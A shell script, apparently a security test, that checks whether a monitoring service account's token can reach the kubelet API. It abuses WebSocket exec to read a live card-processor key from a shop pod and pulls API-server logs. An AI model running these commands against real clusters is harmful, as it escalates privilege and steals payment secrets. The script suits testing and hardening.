# The intruder holds the collector's token and nothing else. Exit 0: at least one way
# into the shop's pod worked. A web socket begins as a GET, and the kubelet turns the
# method into the verb.
token=$(kubectl create token collector -n monitoring) || exit 1
kubelet="https://$NODE_ADDRESS:$KUBELET_PORT"
won=no

socket() {
  curl -sk --http1.1 -m 5 -H "Authorization: Bearer $token" \
    -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' \
    -H 'Sec-WebSocket-Key: c2VydmljZSBlbnRyYW5jZQ==' -H 'Sec-WebSocket-Protocol: v4.channel.k8s.io' "$1"
}

echo "reading the card key inside checkout-0, by a web socket to the kubelet:"
if socket "$kubelet/exec/shop/checkout-0/app?command=cat&command=/etc/card-processor/key&output=1" | grep -a -o 'ck-live-[a-z0-9-]*'; then
  won=yes
fi

echo "reading the logs of the API server, from its kubelet:"
if curl -sSfk -m 5 -H "Authorization: Bearer $token" "$kubelet/containerLogs/kube-system/kube-apiserver-$NODE_NAME/kube-apiserver?tailLines=3"; then
  won=yes
fi

[ "$won" = yes ]
